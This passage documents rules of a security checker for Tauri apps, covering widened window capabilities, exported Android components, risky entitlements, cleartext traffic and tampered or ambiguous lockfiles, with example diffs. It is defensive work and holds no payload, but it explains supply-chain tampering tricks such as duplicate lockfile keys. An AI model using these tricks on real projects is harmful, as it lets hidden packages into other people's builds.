1: patterns of scopes matched too much](https://github.com/advisories/GHSA-6mv3-wm7j-h4w5)\n- [CVE-2023-34460: scopes matched names that begin with a dot](https:\
//github.com/advisories/GHSA-wmff-grcw-jcfm)\n- [CVE-2025-31477: the shell plugin opened links of any scheme](https://github.com/advisories/GHSA-c9pr-q8gx-3mgp)\n',
"ipc/window-added":`# A capability holds for more windows: \`ipc/window-added\`

Severity: critical where a program can be run with any arguments; high for other programs, for files such as keys and cookies, and for transfers that no scope l\
imits; medium for other files, requests to any host or local port, the clipboard, stored data and new windows; low for the rest, and while the scope lets nothin\
g through; one step more for remote pages.

Since: 0.1.0

A capability that the app had is now in force for windows or webviews that it did not hold for: a label or a wider pattern in \`windows\` or \`webviews\`; or for th\
e app's own pages where only a remote site had it, because \`"local": false\` went.

## Why it matters

Windows are the compartments of an app: the one that shows other people's content gets few commands, the settings get many. A pattern such as \`*\` or \`tool-*\` ho\
lds for every window that is ever given such a label, also by code written later, and a page that can create windows picks the label itself. \`webviews\` never na\
rrows \`windows\`: either of the two is enough.

## What to do

Name the windows that need it. Where they need only some of it, give them a capability of their own.

## When it says nothing

- The new pattern matches no label that the old ones did not: \`main\` beside \`*\`.
- \`"webviews": ["main"]\` is added beside \`"windows": ["main"]\`: the webview of an ordinary window has the window's label.
- Another capability gives those windows the same.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another window

\`src-tauri/capabilities/main.json\`:

\`\`\`diff
 {
   "identifier": "main",
-  "windows": ["main"],
+  "windows": ["main", "preview"],
   "permissions": [
     "core:default",
\`\`\`

Window \`preview\` can newly change files (\`plugin:fs|write_text_file\`) and call 92 more commands:

\`\`\`
invoke("plugin:fs|write_text_file", {"path":"/home/user/Documents/folder/notes.txt"})
\`\`\`

### It says nothing about patterns inside a wider one

\`src-tauri/capabilities/tools.json\`:

\`\`\`diff
 {
   "identifier": "tools",
-  "windows": ["*"],
+  "windows": ["*", "main", "settings-*"],
   "permissions": ["process:default"]
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)
- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [Tauri 2: fields of a capability](https://v2.tauri.app/reference/acl/capability/)
`,"native/component-exported":`# Other apps may call a part of the app: \`native/component-exported\`

Severity: high for services, receivers and providers; medium for activities and for addresses of files; low for what a known one is handed; low for an app that \
is new.

Since: 0.1.0

A component of a manifest is exported and asks for no permission, or a filter says that it takes something else.

## Why it matters

Any app of the device may start an exported activity, bind an exported service and read an exported provider, with what it likes.

## What to do

Leave \`android:exported\` at \`false\`, or ask for a permission that only apps of yours have.

## When it says nothing

- The component asks callers for a permission.
- The element takes away what another manifest has.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a provider

\`src-tauri/gen/android/app/src/main/AndroidManifest.xml\`:

\`\`\`diff
 <manifest xmlns:android="http://schemas.android.com/apk/res/android">
   <application>
-    <provider android:name=".Notes" android:exported="false"/>
+    <provider android:name=".Notes" android:exported="true"/>
   </application>
 </manifest>
\`\`\`

Any app on the device can newly call the provider \`.Notes\` on Android:

\`\`\`
AndroidManifest.xml: provider .Notes android:exported="true"
\`\`\`

### It says nothing about a service with a permission

\`src-tauri/gen/android/app/src/main/AndroidManifest.xml\`:

\`\`\`diff
 <manifest xmlns:android="http://schemas.android.com/apk/res/android">
   <application>
+    <service android:name=".Sync" android:exported="true" android:permission="org.example.SYNC"/>
   </application>
 </manifest>
\`\`\`

<!-- end examples -->

## References

- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
`,"native/feature-added":`# The app asks the system for more: \`native/feature-added\`

Severity: low.

Since: 0.1.0

An entitlement, a reason in Info.plist or a permission of Android is new.

## Why it matters

People are asked before the app uses most of these. A page of the app can ask for the camera only where the app has a reason for it.

## What to do

Ask for what the app uses.

## When it says nothing

- A reason is worded differently.
- The permission was there in another manifest.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a reason

\`src-tauri/Info.plist\`:

\`\`\`diff
   <key>LSMinimumSystemVersion</key>
   <string>10.15</string>
+  <key>NSCameraUsageDescription</key>
+  <string>To scan notes.</string>
 </dict>
 </plist>
\`\`\`

The app can newly ask people for the camera, by \`NSCameraUsageDescription\`, on macOS and iOS:

\`\`\`
plutil -p Info.plist # NSCameraUsageDescription
\`\`\`

### It says nothing when a reason is worded differently

\`src-tauri/Info.plist\`:

\`\`\`diff
 <dict>
   <key>NSCameraUsageDescription</key>
-  <string>To scan notes.</string>
+  <string>It scans notes.</string>
 </dict>
 </plist>
\`\`\`

<!-- end examples -->

## References

- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
`,"native/privilege-claimed":`# The app reaches other programs or the system: \`native/privilege-claimed\`

Severity: critical for extensions and helpers of the system and for another way of updates; high for files, other apps and powerful permissions; medium for shar\
ing and servers; low for an app that is new.

Since: 0.1.0

An entitlement, a key of Info.plist or a permission of Android has it that gives the app power over other programs, the files of people or the system.

## Why it matters

Whoever gets into the app has that power too, and some of it is granted without a question.

## What to do

Leave out what the app can do without. Ask for the smallest of several permissions.

## When it says nothing

- The key is \`false\`.
- The same permission is asked for in another manifest of the app.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags all files

\`src-tauri/entitlements.plist\`:

\`\`\`diff
   <key>com.apple.security.app-sandbox</key>
   <true/>
+  <key>com.apple.security.files.all</key>
+  <true/>
 </dict>
 </plist>
\`\`\`

The app can newly reach files outside of its container, by \`com.apple.security.files.all\`, on macOS:

\`\`\`
codesign -d --entitlements - Notes.app # com.apple.security.files.all
\`\`\`

### It says nothing when lines change places

\`src-tauri/entitlements.plist\`:

\`\`\`diff
 <plist version="1.0">
 <dict>
-  <key>com.apple.security.files.all</key>
-  <true/>
   <key>com.apple.security.print</key>
   <true/>
+  <key>com.apple.security.files.all</key>
+  <true/>
 </dict>
 </plist>
\`\`\`

<!-- end examples -->

## References

- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
`,"native/process-freed":`# Other programs get into the app: \`native/process-freed\`

Severity: high; medium for JIT and for entitlements that no configuration names; low for an app that is new.

Since: 0.1.0

The hardened runtime is off, entitlements free the process of a guard (\`disable-library-validation\`, \`allow-dyld-environment-variables\`, \`allow-jit\`, \`allow-uns\
igned-executable-memory\`, \`get-task-allow\`), the sandbox is gone, or an app of Android can be debugged.

## Why it matters

Other programs of the same person can then put code into the app. It has what the person allowed the app: the camera, files, the keychain.

## What to do

Remove the key. Sign the libraries that the app loads with its own team, so that it needs none.

## When it says nothing

- The key is \`false\`, or stands in a comment.
- The file moved, and its keys are the same.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a library of anyone

\`src-tauri/entitlements.plist\`:

\`\`\`diff
   <key>com.apple.security.network.client</key>
   <true/>
+  <key>com.apple.security.cs.disable-library-validation</key>
+  <true/>
 </dict>
 </plist>
\`\`\`

Any program that the same person runs can newly have the app load its libraries, by \`com.apple.security.cs.disable-library-validation\`, on macOS:

\`\`\`
codesign -d --entitlements - Notes.app # com.apple.security.cs.disable-library-validation
\`\`\`

### It says nothing about a key in a comment

\`src-tauri/entitlements.plist\`:

\`\`\`diff
   <key>com.apple.security.app-sandbox</key>
   <true/>
+  <!-- <key>get-task-allow</key><true/> -->
 </dict>
 </plist>
\`\`\`

<!-- end examples -->

## References

- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
`,"native/traffic-unprotected":`# The app may exchange data without TLS: \`native/traffic-unprotected\`

Severity: high for all traffic; medium for a domain; low for this machine; low for an app that is new.

Since: 0.1.0

\`exceptionDomain\`, a key of \`NSAppTransportSecurity\`, \`usesCleartextTraffic\` or the network security configuration of Android allows traffic that anyone on the \
way can read and change, or trusts certificates that people add.

## Why it matters

Anyone on the network path can change what a server sends: scripts of pages, updates, data.

## What to do

Use \`https:\`. For a server in development, allow it in debug builds alone.

## When it says nothing

- The domain is this machine.
- The key is \`false\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a domain

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "macOS": {}
+    "macOS": {
+      "exceptionDomain": "example.com"
+    }
   }
 }
\`\`\`

Anyone on the network path can newly read and change what the app exchanges with \`example.com\` and all below it on macOS:

\`\`\`
GET http://example.com/
\`\`\`

### It says nothing when the domain is spelt differently

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "macOS": {
-      "exceptionDomain": "example.com"
+      "exceptionDomain": "Example.com"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Apple: entitlements](https://developer.apple.com/documentation/bundleresources/entitlements)
- [Android: the manifest](https://developer.android.com/guide/topics/manifest/manifest-intro)
`,"packages/bytes-unpublished":`# A lockfile pins bytes that the registry doesn't serve: \`packages/bytes-unpublished\`

Severity: critical.

Since: 0.1.0

The registry's own archive of a newly locked release has another hash than the lockfile names.

## Why it matters

The hash in a lockfile says which bytes a build may take. If it isn't that of the published archive, a build either stops, or takes something else from where it\
 finds it: a poisoned cache, a mirror, a proxy that answers as the registry. In some 2,900 commits to lockfiles of public projects no such hash was ever seen.

## What to do

Let the package manager write the entry anew, and compare the hash with the registry's. If they still differ, ask the registry.

## When it says nothing

- The hash is the published one.
- The registry doesn't answer: then nobody knows, which is said.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a hash that the registry doesn't have

\`package-lock.json\`:

\`\`\`diff
     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },
     "node_modules/left": {
-      "version": "1.0.0",
-      "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
+      "version": "1.0.1",
+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
     }
   }
\`\`\`

The lockfile pins \`left 1.0.1\` to other bytes than the npm registry serves:

\`\`\`
npm ci  # takes left 1.0.1
\`\`\`

### It says nothing when the hash is the published one

\`package-lock.json\`:

\`\`\`diff
     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },
     "node_modules/left": {
-      "version": "1.0.0",
-      "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
+      "version": "1.0.1",
+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
     }
   }
\`\`\`

<!-- end examples -->

## References

- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
`,"packages/checksum-changed":`# The same version is other bytes: \`packages/checksum-changed\`

Severity: critical; high where an npm hash is left out.

Since: 0.1.0

The lockfile pins a version that base has too, from the same source, to another hash, or to none.

## Why it matters

Registries never change what a version is. In 1,720 commits to real Cargo.lock files and 1,148 to pnpm lockfiles not one changed the hash of a version. A hash t\
hat differs means that the lockfile was edited, or that one of the two was never what the registry served. A hash that is missing means that nobody checks: carg\
o repairs such a lockfile silently unless it runs with \`--locked\`.

## What to do

Restore the line from base. Then find out who wrote the other one: the author's machine or its registry may answer with other packages than yours.

## When it says nothing

- A hash of another, stronger kind takes the place of one. Nobody can tell whether it names the same bytes, so that is a gap.
- A lockfile changes its format, and the hashes move.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags other bytes for the same version

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 version = "0.3.9"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "cce0e307a2a0f8509ec21a1066f06de7ddba3d74b19513fa2f302a1c707c590c"
+checksum = "d144f3e1222e5e411774f6dbac92789a5c54b1c173fb8a0d5a02adb098f7dda8"

 [[package]]
\`\`\`

The lockfile names other bytes for the same version of \`arrayref 0.3.9\`:

\`\`\`
cargo fetch  # takes arrayref 0.3.9 with hash d144f3e1222e5e411774f6dbac92789a5c54b1c173fb8a0d5a02adb098f7dda8
\`\`\`

### It says nothing when the version moves too

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "arrayref"
-version = "0.3.8"
+version = "0.3.9"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "501da63fa8090c8cf2f1b8a0aa9dccb23c180dc105d0b10658c16c7af9824ff6"
+checksum = "cce0e307a2a0f8509ec21a1066f06de7ddba3d74b19513fa2f302a1c707c590c"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)
- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
- [CWE-494: download of code without integrity check](https://cwe.mitre.org/data/definitions/494.html)
`,"packages/install-guard-removed":`# A guard over packages is gone: \`packages/install-guard-removed\`

Severity: medium.

Since: 0.1.0

A setting goes, or is turned off, that kept something from being installed or run: \`ignore-scripts\`, a least age of releases, checks of certificates, of hashes,\
 or of where packages may come from. Or a policy of cargo-deny makes a check no more: of build scripts, of executables, or of banned crates.

## Why it matters

Such guards stop whole classes of attacks: a release that is hours old was mostly not looked at by anyone, and a package from a repository or an address has no \
registry that could take it back. Without the guard, the next update may bring what it was there to stop, and no further change of a setting shows it.

## What to do

Put it back, or narrow the exception to the one package that needs it.

## When it says nothing

- The guard moves to another file.
- A guard is new.
- A policy of cargo-deny checks licenses, advisories or sources otherwise: that isn't read.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a least age that goes

\`pnpm-workspace.yaml\`:

\`\`\`diff
-minimumReleaseAge: 4320
 strictDepBuilds: true
\`\`\`

Installing packages is no longer held back by \`minimumReleaseAge: 4320\`:

\`\`\`
pnpm install  # no longer held back by minimumReleaseAge: 4320
\`\`\`

### It says nothing when releases have to be older

\`pnpm-workspace.yaml\`:

\`\`\`diff
-minimumReleaseAge: 4320
+minimumReleaseAge: 10080
 strictDepBuilds: true
\`\`\`

<!-- end examples -->

## References

- [pnpm: settings](https://pnpm.io/settings)
- [npm: config](https://docs.npmjs.com/cli/v11/using-npm/config)
- [cargo-deny: bans](https://embarkstudios.github.io/cargo-deny/checks/bans/cfg.html)
- [Yarn: settings](https://yarnpkg.com/configuration/yarnrc)
`,"packages/links-added":`# A crate newly links a native library: \`packages/links-added\`

Severity: low.

Since: 0.1.0

A newer version of a crate claims a native library (\`links\` in its \`Cargo.toml\`) and no version in base claims any. What the library is called changes from vers\
ion to version, and means nothing.

## Why it matters

Native code is outside of everything that Rust checks, and depending on the crate's build script it is compiled from the archive, downloaded, or taken from the \
machine that builds.

## What to do

Find out in the build script where the library comes from, and that you want it from there.

## When it says nothing

- The crate is new: its build script is told, and the library with it.
- A version in base claims a library too, under whatever name.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an update that claims a native library

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "rayon-core"
-version = "1.8.0"
+version = "1.8.1"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "b086855acda9a0fb79e033a5101e3899c4bc8210ddb831c224e707fb894dda46"
+checksum = "3e4713985d01bec117ea1ec817bc1e9dc0ffa4b54046befe1fa966e611414a9c"

 [[package]]
\`\`\`

\`rayon-core 1.8.1\` newly links the native library \`rayon-core\`:

\`\`\`
cargo fetch  # takes rayon-core 1.8.1
\`\`\`

### It says nothing when it claimed the library before

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "rayon-core"
-version = "1.8.0"
+version = "1.8.1"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "b086855acda9a0fb79e033a5101e3899c4bc8210ddb831c224e707fb894dda46"
+checksum = "3e4713985d01bec117ea1ec817bc1e9dc0ffa4b54046befe1fa966e611414a9c"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Cargo: the \`links\` key](https://doc.rust-lang.org/cargo/reference/build-scripts.html#the-links-manifest-key)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"packages/lockfile-ambiguous":`# A lockfile pins other packages than it shows: \`packages/lockfile-ambiguous\`

Severity: critical.

Since: 0.1.0

A JSON lockfile has a key twice in one object, or a Cargo.lock holds crates that its lines don't show as cargo writes them.

## Why it matters

A lockfile is reviewed by its lines, if at all. JSON parsers differ in which of two equal keys counts: npm takes the last one. TOML has inline tables, quoted ke\
ys and texts of several lines that may hold what looks like an entry; cargo reads them all, even with \`--locked\`. So a file can show one package and pin another\
.

## What to do

Throw the file away, let the package manager write it anew, and compare what it then pins with base.

## When it says nothing

- Comments, other line ends, another order.
- The file is the same as at base.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a package that stands twice

\`package-lock.json\`:

\`\`\`diff
       "version": "1.0.0",
       "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
+    },
+    "node_modules/left": {
+      "version": "1.0.0",
+      "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
     }
   }
\`\`\`

\`package-lock.json\` doesn't pin what it shows: \`node_modules/left\` stands twice in one object:

\`\`\`
npm ci  # takes other packages from package-lock.json than its lines show
\`\`\`

### It says nothing when a key only looks alike

\`package-lock.json\`:

\`\`\`diff
     "node_modules/left": {
       "version": "1.0.0",
+      "license": "MIT",
       "integrity": "sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="
     }
\`\`\`

<!-- end examples -->

## References

- [RFC 8259: objects with names that aren't unique](https://www.rfc-editor.org/rfc/rfc8259#section-4)
- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)
`,"packages/package-added":`# Packages are new: \`packages/package-added\`

Severity: low.

Since: 0.1.0

Packages are new in a lockfile that run nothing when the app is built, as far as is known. All of one lockfile are told at once, at the first one's line.

## Why it matters

Each package is somebody who can put code into the app. One in seven changes of a Cargo.lock brings a new name, so this is no alarm; it is the list to look over\
 for a name that nobody meant, which is how a misspelt or invented name gets in.

## What to do

Read the names. For each you should be able to say what needs it: the finding says through which direct dependency each comes in, which release newly needs it, \
and how many direct dependencies lead to it. "dev only", "optional" and "Windows only" stand where every way from every manifest proves it. A Cargo.lock marks n\
one of that: there the manifests of this repository prove it, and what crates from elsewhere need counts as needed always.

## When it says nothing

- A package is updated or removed.
- The package is told already, since it brings a build step, is a plugin, or comes from a new source.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags three new crates at once

\`src-tauri/Cargo.lock\`:

\`\`\`diff

 [[package]]
+name = "cfg-if"
+version = "1.0.4"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "dbd474c54a6294d84266d3c156dcf02ce3b9a3f11e23fff116d4f2d57558b2bc"
+
+[[package]]
+name = "libc"
+version = "0.2.177"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "5ca67db1ac6494ebc51182bfeca558634c26cd2923d522a0c6cb9db11a55f82e"
+
+[[package]]
 name = "notes"
 version = "1.0.0"
 dependencies = [
+ "sys-locale",
  "tauri",
 ]

 [[package]]
+name = "sys-locale"
+version = "0.3.2"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "1578eda97022048bdfcb53e840152be4251b1017872bb5dee3433acd44f73180"
+dependencies = [
+ "cfg-if",
+ "libc",
+]
+
+[[package]]
 name = "tauri"
 version = "2.8.0"
\`\`\`

3 crates are new: \`cfg-if 1.0.4\`, \`libc 0.2.177\` and \`sys-locale 0.3.2\`:

\`\`\`
cargo fetch  # takes cfg-if 1.0.4
\`\`\`

### It says nothing when crates are updated or go

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "glob"
-version = "0.3.2"
+version = "0.3.3"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "dcee78ea787e4d123286bc77a11d0f58dbb062f3bc23a7e4d605320e219625a7"
+checksum = "9a73b9d906fdadd0321642d764154afeab14fd2f95aebb482725ab7bb870f3c2"

 [[package]]
@@
 dependencies = [
  "glob",
- "sys-locale",
  "tauri",
 ]

 [[package]]
-name = "sys-locale"
-version = "0.3.2"
-source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "1578eda97022048bdfcb53e840152be4251b1017872bb5dee3433acd44f73180"
-
-[[package]]
 name = "tauri"
 version = "2.8.0"
\`\`\`

<!-- end examples -->

## References

- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)
- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)
- [RUSTSEC-2022-0042: the malicious crate \`rustdecimal\`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)
`,"packages/plugin-added":`# A Tauri plugin is new: \`packages/plugin-added\`

Severity: low.

Since: 0.1.0

A crate \`tauri-plugin-\u2026\` or a package \`@tauri-apps/plugin-\u2026\` is new in a lockfile.

## Why it matters

A plugin adds commands to the app, and its Rust code runs in the app's process with all its rights. What pages may call of it is decided by capabilities, and To\
ril reports that on the capability's line; this finding says that there is something new to decide about. It names the commands that the plugin's \`default\` lets\
 pages call, and what the same change grants of the plugin to which windows. Of a plugin that isn't Tauri's own it only says so if a capability names it.

## What to do

Look at the capabilities in the same change: do they grant only what the feature needs? For a plugin that isn't Tauri's own, look at who publishes it.

## When it says nothing

- A plugin is updated. What its permissions newly mean is told under \`ipc/\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new plugin

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 dependencies = [
  "tauri",
+ "tauri-plugin-opener",
 ]

@@
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "62045b870b1888c9bddbaab0c861b60f8a17bf913c89b6dcbb3775ccb4a9126e"
+
+[[package]]
+name = "tauri-plugin-opener"
+version = "2.5.0"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "09ea2ce85cb8832b208e90c27464b73fab3d8fb25f758a5911bad2d3c2bb32d7"
\`\`\`

The app newly contains the Tauri plugin \`tauri-plugin-opener 2.5.0\`:

\`\`\`
cargo fetch  # takes tauri-plugin-opener 2.5.0
\`\`\`

### It says nothing when a plugin is updated

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-opener"
-version = "2.4.0"
+version = "2.5.0"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"
+checksum = "09ea2ce85cb8832b208e90c27464b73fab3d8fb25f758a5911bad2d3c2bb32d7"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: developing plugins](https://v2.tauri.app/develop/plugins/)
- [Tauri 2: official plugins](https://v2.tauri.app/plugin/)
- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
`,"packages/plugin-half-missing":`# A plugin has only one of its halves: \`packages/plugin-half-missing\`

Severity: info.

Since: 0.1.0

The app newly asks for the npm package of a plugin whose crate is in no Cargo.lock of the app, or for the crate of one of Tauri's plugins whose npm package no l\
ockfile of the pages has.

## Why it matters

A plugin is a crate with commands and an npm package that calls them. Every call of a package without its crate fails, and nothing says so before someone uses t\
hat part of the app. A crate without its package is fine if only Rust code uses it: then no capability has to grant its commands to pages.

## What to do

Add the half that is missing, or take out the one that is there. Leave it if the other half comes in a later change, or if only Rust code needs the plugin.

## When it says nothing

- The half stands alone at base too.
- Another package or crate brings the half along, and the app doesn't ask for it itself.
- The app takes nothing of Tauri's from the other ecosystem, as an app whose pages are made in Rust, or has a lockfile that Toril doesn't read.
- Crates of others: many have no package. Of their packages, \`tauri-plugin-x-api\` and \`@scope/tauri-plugin-x\` belong to the crate \`tauri-plugin-x\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a package that no crate answers

\`package-lock.json\`:

\`\`\`diff
       "version": "1.0.0",
       "dependencies": {
-        "@tauri-apps/api": "^2.8.0"
+        "@tauri-apps/api": "^2.8.0",
+        "@tauri-apps/plugin-fs": "^2.3.0"
       }
     },
@@
       "integrity": "sha512-0YOighysqMXQPMHATg87oJ2N8spNah0aKG+MWVu99VZ4B8NIRSu219MvQqo1LmQJWR666h3damTB2ti/1b2MglQ==",
       "license": "Apache-2.0 OR MIT"
+    },
+    "node_modules/@tauri-apps/plugin-fs": {
+      "version": "2.3.0",
+      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",
+      "license": "MIT OR Apache-2.0",
+      "dependencies": {
+        "@tauri-apps/api": "^2.6.0"
+      }
     }
   }
\`\`\`

\`package.json\`:

\`\`\`diff
   "version": "1.0.0",
   "dependencies": {
-    "@tauri-apps/api": "^2.8.0"
+    "@tauri-apps/api": "^2.8.0",
+    "@tauri-apps/plugin-fs": "^2.3.0"
   }
 }
\`\`\`

\`@tauri-apps/plugin-fs 2.3.0\` is in the pages, without its crate in the app:

\`\`\`
npm ci  # takes @tauri-apps/plugin-fs 2.3.0, and no tauri-plugin-fs answers it
\`\`\`

### It says nothing when both halves come together

\`package-lock.json\`:

\`\`\`diff
       "version": "1.0.0",
       "dependencies": {
-        "@tauri-apps/api": "^2.8.0"
+        "@tauri-apps/api": "^2.8.0",
+        "@tauri-apps/plugin-fs": "^2.3.0"
       }
     },
@@
       "integrity": "sha512-0YOighysqMXQPMHATg87oJ2N8spNah0aKG+MWVu99VZ4B8NIRSu219MvQqo1LmQJWR666h3damTB2ti/1b2MglQ==",
       "license": "Apache-2.0 OR MIT"
+    },
+    "node_modules/@tauri-apps/plugin-fs": {
+      "version": "2.3.0",
+      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",
+      "license": "MIT OR Apache-2.0",
+      "dependencies": {
+        "@tauri-apps/api": "^2.6.0"
+      }
     }
   }
\`\`\`

\`package.json\`:

\`\`\`diff
   "version": "1.0.0",
   "dependencies": {
-    "@tauri-apps/api": "^2.8.0"
+    "@tauri-apps/api": "^2.8.0",
+    "@tauri-apps/plugin-fs": "^2.3.0"
   }
 }
\`\`\`

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 dependencies = [
  "tauri",
+ "tauri-plugin-fs",
 ]

@@
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "62045b870b1888c9bddbaab0c861b60f8a17bf913c89b6dcbb3775ccb4a9126e"
+
+[[package]]
+name = "tauri-plugin-fs"
+version = "2.3.0"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
+tauri-plugin-fs = "2"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: developing plugins](https://v2.tauri.app/develop/plugins/)
- [Tauri 2: official plugins](https://v2.tauri.app/plugin/)
`,"packages/plugin-halves-differ":`# The two halves of a plugin differ: \`packages/plugin-halves-differ\`

Severity: medium; low where the app pins a \`@tauri-apps/cli\` before 2.8.

Since: 0.1.0

Of Tauri or of one of its plugins, the lockfiles newly pin a crate and an npm package with other major or minor versions: \`tauri\` and \`@tauri-apps/api\`, or \`tau\
ri-plugin-x\` and \`@tauri-apps/plugin-x\`.

## Why it matters

tauri-cli compares the two halves from 2.8 on, and \`tauri build\` stops where they differ in more than the patch. \`cargo build\` and the build of the pages don't \
compare them. So a bot that updates one half gets a green check, and the release fails weeks later. Older releases of tauri-cli build the app: then pages call w\
hat the crate may not have.

Toril compares as tauri-cli does: only where both halves are there, pre-releases by their numbers alone, whatever repository or folder a half comes from. Of an \
npm package it takes what package.json asks for, by the name that it has there, and not what other packages bring along.

## What to do

Take the version that the finding names for the half that is behind. One half is sometimes released days before the other: until then keep both at the older ver\
sion, with \`~2.3\` in Cargo.toml or package.json. \`tauri build --ignore-version-mismatches\` builds all the same.

## When it says nothing

- The halves differ at base too, in whatever versions: the build stopped before.
- They differ in the patch alone.
- Cargo.lock has several versions of the crate: tauri-cli then takes the requirement in Cargo.toml, and compares nothing unless that is a whole version.
- Several workspaces ask for the package, and one of its versions fits: tauri-cli takes that of the folder where it starts.
- Tauri 1, whose tool compares nothing.
- Plugins of others, whose halves have versions of their own.
